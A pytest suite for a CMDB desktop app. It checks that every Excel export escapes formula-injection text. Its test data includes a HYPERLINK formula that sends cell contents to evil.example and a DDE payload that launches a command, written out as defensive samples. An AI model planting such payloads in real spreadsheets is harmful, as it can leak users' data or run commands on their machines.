"""No export plants a formula: every workbook we write — canonical export, templates,
rejected rows, impact report, audit report, the GUI's "export selection" — is
opened with openpyxl and holds no formula cell, and text beginning with
``= + - @``, tab or CR reads back as the same text.

XML (and so .xlsx) cannot keep a lone carriage return: it reads back as a line
feed. That is the one change a value may undergo, and it is documented here.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from cmdb_desktop.cmdb import Cmdb
from importers.apply import import_file
from importers.audit import audit_file
from importers.audit_report import write_audit_report
from importers.cells import FORMULA_TRIGGERS
from importers.export import export_workbook, write_template
from importers.impact_report import write_impact_report
from tests.importers.badfiles import one_sheet, rows_xml
from tests.importers.sheets import write_csv

#: Text a spreadsheet program would evaluate (DDE payloads among them).
DANGEROUS = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "=",
    "-",
]
#: Leading tab and CR survive only where raw cells are written back (rejects).
RAW_ONLY = ["\tTabbed", "\r=CR then formula"]


def formula_cells(path: Path) -> list[str]:
    """Every cell of every sheet that openpyxl reads as a formula."""
    wb = load_workbook(path)
    return [
        f"{ws.title}!{c.coordinate}={c.value!r}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
        or (isinstance(c.value, str) and c.data_type != "s" and c.value[:1] == "=")
    ]


def texts(path: Path) -> set[str]:
    wb = load_workbook(path)
    return {
        c.value
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str)
    }


def xml_text(value: str) -> str:
    """What a value reads back as from .xlsx: a lone CR becomes LF (XML line ends)."""
    return value.replace("\r\n", "\n").replace("\r", "\n")


@pytest.fixture
def poisoned(cmdb: Cmdb) -> Iterator[Cmdb]:
    """A CMDB whose names, owners, descriptions, class, attribute labels and choices
    all begin like formulas."""
    cmdb.classes.add_class("=Evil Class", parent="Server")
    cmdb.classes.add_attribute(
        "Server", "=Label", "choice", key="evil", choices=["=choice()", "-minus", "@at", "plain"]
    )
    ids = []
    for i, text in enumerate(DANGEROUS):
        ids.append(
            cmdb.items.create(
                "Server" if i % 2 else "=Evil Class",
                {
                    "name": text if text not in ("=", "-") else f"{text}{i}",
                    "status": "In Use",
                    "owner": text,
                    "description": f"{text}\nsecond line",
                    "evil": "=choice()",
                },
            ).created[0]
        )
    rack = cmdb.items.create("Rack", {"name": "@rack", "status": "In Use"}).created[0]
    for ci in ids:
        cmdb.relations.relate(ci, "Located in", rack)
    yield cmdb


def _names(cmdb: Cmdb) -> set[str]:
    with cmdb.read() as s:
        from sqlalchemy import select

        from cmdb_desktop.models import ConfigurationItem as CI

        return set(s.scalars(select(CI.name)))


def test_canonical_export(poisoned: Cmdb, tmp_path: Path) -> None:
    out = tmp_path / "export.xlsx"
    export_workbook(poisoned, out)
    assert formula_cells(out) == []
    found = texts(out)
    assert _names(poisoned) <= found
    assert "=Evil Class" in found and "=Label" in found and "=choice()" in found
    assert all(f"{t}\nsecond line" in found for t in DANGEROUS)
    # and it round-trips: re-importing the untouched export changes nothing
    result = import_file(poisoned, out, dry_run=True)
    counts = result.to_json()
    assert not result.errors, result.errors
    assert counts["cis"]["created"] == counts["cis"]["updated"] == 0
    assert counts["relationships"]["created"] == 0


def test_templates(poisoned: Cmdb, tmp_path: Path) -> None:
    for cls in (None, "=Evil Class"):
        out = tmp_path / f"template-{cls is None}.xlsx"
        write_template(poisoned, out, class_name=cls)
        assert formula_cells(out) == []
        found = texts(out)
        assert {"=Label", "=choice()", "-minus", "@at", "=Evil Class"} <= found


def test_rejects_workbook(poisoned: Cmdb, tmp_path: Path) -> None:
    rows: list[list[Any]] = [["Name", "Class", "Status", "Owner", "Description"]]
    for text in DANGEROUS + RAW_ONLY:
        rows.append([f"r{len(rows)}", "Server", "Broken", text, text])
    rows.append(["good", "Server", "In Use", "x", "y"])
    # text cells (openpyxl would store "=1+2" as a formula, calamine reads it blank)
    source = tmp_path / "in.xlsx"
    source.write_bytes(one_sheet(rows_xml(rows)))
    rejects = tmp_path / "rejects.xlsx"
    result = import_file(poisoned, source, skip_errors=True, rejects_path=rejects)
    assert result.rejects == rejects
    assert formula_cells(rejects) == []
    found = texts(rejects)
    assert {xml_text(t) for t in DANGEROUS + RAW_ONLY} <= found


def test_dry_run_outcomes_workbook(poisoned: Cmdb, tmp_path: Path) -> None:
    """``import --dry-run -o diff.xlsx``: keys, values, changes and messages all as text."""
    from importers.outcomes import write_outcomes

    rows: list[list[Any]] = [["Name", "Class", "Status", "Owner"]]
    for text in DANGEROUS:
        rows.append([f"new-{len(rows)}", "Server", "In Use", text])  # created
        rows.append([text.strip() or f"x{len(rows)}", "Server", "Broken", text])  # error
    source = tmp_path / "in.xlsx"
    source.write_bytes(one_sheet(rows_xml(rows)))
    result = import_file(poisoned, source, dry_run=True)
    out = write_outcomes(result.plan, tmp_path / "diff.xlsx")
    assert formula_cells(out) == []
    found = " ".join(texts(out))
    assert all(xml_text(t).strip() in found for t in DANGEROUS)


def test_rejects_from_csv_keep_leading_tabs_and_crs(poisoned: Cmdb, tmp_path: Path) -> None:
    path = tmp_path / "in.csv"
    path.write_text(
        'Name,Class,Status,Owner\r\nr1,Server,Broken,"\tTabbed"\r\nr2,Server,Broken,"\r=x"\r\n'
        "r3,Server,Broken,=1+2\r\n",
        encoding="utf-8",
    )
    rejects = tmp_path / "rejects.xlsx"
    import_file(poisoned, path, skip_errors=True, rejects_path=rejects)
    assert formula_cells(rejects) == []
    assert {"\tTabbed", "\n=x", "=1+2"} <= texts(rejects)


def test_impact_report(poisoned: Cmdb, tmp_path: Path) -> None:
    rack = poisoned.items.resolve("@rack")
    report = poisoned.analysis.impact([rack])
    assert report.impacted
    out = write_impact_report(report, tmp_path / "impact.xlsx", cmdb="=evil", user="@user")
    assert formula_cells(out) == []
    found = texts(out)
    assert {i.ci.name for i in report.impacted} <= found
    assert "@rack" in found and "=evil" in found


def test_audit_report(poisoned: Cmdb, tmp_path: Path) -> None:
    sheet = tmp_path / "inventory.csv"
    rows: list[list[Any]] = [["Name", "Class", "Owner"]]
    for name in sorted(_names(poisoned) - {"@rack"}):
        rows.append([name, "Server", "+" + name])  # every owner differs
    rows.append(["=NEW()", "Server", "-x"])  # only in the sheet
    write_csv(sheet, rows)
    result = audit_file(poisoned, sheet)
    out = write_audit_report(result, tmp_path / "audit.xlsx")
    assert formula_cells(out) == []
    found = texts(out)
    assert "=NEW()" in found and "+=1+2" in found and "=1+2" in found


def test_gui_export_selection(poisoned: Cmdb, tmp_path: Path) -> None:
    from ui.jobs import JobState, export_xlsx

    with poisoned.read() as s:
        from sqlalchemy import select

        from cmdb_desktop.models import ConfigurationItem as CI

        ids = list(s.scalars(select(CI.id)))
    out = export_xlsx(
        JobState(),
        poisoned,
        ids,
        ["name", "class", "owner", "description", "evil"],
        str(tmp_path / "selection.xlsx"),
    )
    assert formula_cells(out) == []
    found = texts(out)
    assert _names(poisoned) <= found and "=choice()" in found


def test_every_trigger_is_covered() -> None:
    assert {t[0] for t in DANGEROUS + RAW_ONLY} >= set(FORMULA_TRIGGERS)
